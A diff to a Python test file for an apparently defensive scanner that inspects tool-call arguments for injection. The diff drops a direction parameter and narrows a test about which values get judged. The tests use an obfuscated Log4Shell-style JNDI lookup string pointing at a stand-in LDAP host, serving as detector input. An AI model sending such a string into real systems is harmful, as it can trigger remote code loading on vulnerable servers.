@@ -14,9 +14,9 @@ from vanguard.rules.index import Index
 CONTEXT = Context(Policy(profile("balanced"), Index((), ""), ""))
 
 
-def found(text: str, direction: Direction = Direction.TO_SERVER) -> list[Finding]:
+def found(text: str) -> list[Finding]:
     """What the layer finds in one argument."""
-    message = Message(direction, Kind.REQUEST, b"{}", {}, 1, "tools/call")
+    message = Message(Direction.TO_SERVER, Kind.REQUEST, b"{}", {}, 1, "tools/call")
     fragment = Fragment(("params", "arguments", "q"), Part.ARGUMENT, False, (Form(text),))
     return list(judge(Reading(message, (fragment,)), CONTEXT).findings)
 
@@ -59,7 +59,5 @@ def test_inner_lookups_become_what_they_stand_for() -> None:
     assert resolve("${a${lower:B}${x:-c}${env:NO}}") == "${abc}"
 
 
-def test_only_requests_and_short_values_are_judged() -> None:
-    hidden = "${${lower:j}ndi:ldap://evil.example/a}"
-    assert found(hidden, Direction.TO_CLIENT) == []
-    assert found(hidden + "x" * LONGEST) == []
+def test_only_short_values_are_judged() -> None:
+    assert found("${${lower:j}ndi:ldap://evil.example/a}" + "x" * LONGEST) == []
